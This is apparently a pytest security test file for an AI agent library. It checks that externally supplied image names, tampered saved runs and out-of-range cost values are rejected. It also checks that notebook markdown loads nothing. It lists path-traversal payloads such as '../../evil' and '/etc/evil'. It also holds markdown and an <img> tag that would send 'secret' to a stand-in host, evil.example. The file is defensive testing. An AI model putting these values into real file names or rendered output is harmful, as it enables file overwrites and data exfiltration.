"""Names that come from outside, in a saved run above all, never become paths; and a notebook is no
careless renderer.
"""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from agentkit import Answer, Message, Run, Text
from agentkit.errors import UsageError
from agentkit.images import MemoryImageStore, store_bytes
from agentkit.values import Usage
from tests.security.pictures import whole
from tests.unit.demo.hand_made import answered, drawn

NAMES = [
    "../../evil",
    "/etc/evil",
    "..",
    ".",
    "a/b",
    "a\\b",
    "C:evil",
    "a\0b",
    "a\nb",
    "x" * 999,
    ".hidden",
    "\ud800",
    "con.",
    " ",
]


@pytest.mark.parametrize("name", NAMES)
def test_a_name_never_becomes_a_path(name: str, tmp_path: Path) -> None:
    folder = tmp_path / "a" / "b"
    folder.mkdir(parents=True)
    answer = answered(Text("Here."), replace(drawn("img_1"), name=name))
    answer.save(folder)
    written = {
        file.relative_to(tmp_path).as_posix() for file in tmp_path.rglob("*") if file.is_file()
    }
    stem = answer.images[0].sha256[:12]
    assert written == {"a/b/answer.md", "a/b/run.json", f"a/b/images/{stem}.png"}
    assert f"(images/{stem}.png)" in (folder / "answer.md").read_text()
    assert answer.images[0].save(folder).parent == folder


def test_a_saved_run_that_somebody_changed(tmp_path: Path) -> None:
    store = MemoryImageStore()
    stored = store_bytes(store, whole("PNG"))
    image = replace(drawn("img_1"), sha256=stored.sha256, blobs=store)
    saved = answered(Text("Here."), image).run.to_json()
    changed = Answer.of(Run.from_json(saved.replace('"img_1"', '"../../../evil"'), blobs=store))
    changed.save(tmp_path / "a" / "b" / "c")
    assert not list(tmp_path.rglob("evil*"))
    gone = Answer.of(
        Run.from_json(saved.replace('"arrived":["img_1"]', '"arrived":["img_7"]'), blobs=store)
    )
    assert gone.images == ()
    assert (
        "Here."
        in Answer.of(
            Run.from_json(saved.replace(stored.sha256, "../../etc"), blobs=store)
        ).to_html()
    )


@pytest.mark.parametrize("cost", ["-1.0", "1e999", "NaN", "Infinity", "-Infinity"])
def test_a_cost_that_would_lift_a_limit(cost: str) -> None:
    run = Run(
        "r", "a/b", "chat", (Message("user", (Text("hi"),)),), 0, spent=(Usage(cost_usd=0.125),)
    )
    with pytest.raises(UsageError, match="cost_usd"):
        Run.from_json(run.to_json().replace("0.125", cost))


def test_a_notebook_gets_markdown_that_loads_nothing() -> None:
    shown = answered(
        Text("![x](https://evil.example/?q=secret) <img src=https://evil.example/>")
    )._repr_mimebundle_()
    assert "![" not in shown["text/markdown"]
    assert "<img" not in shown["text/markdown"]
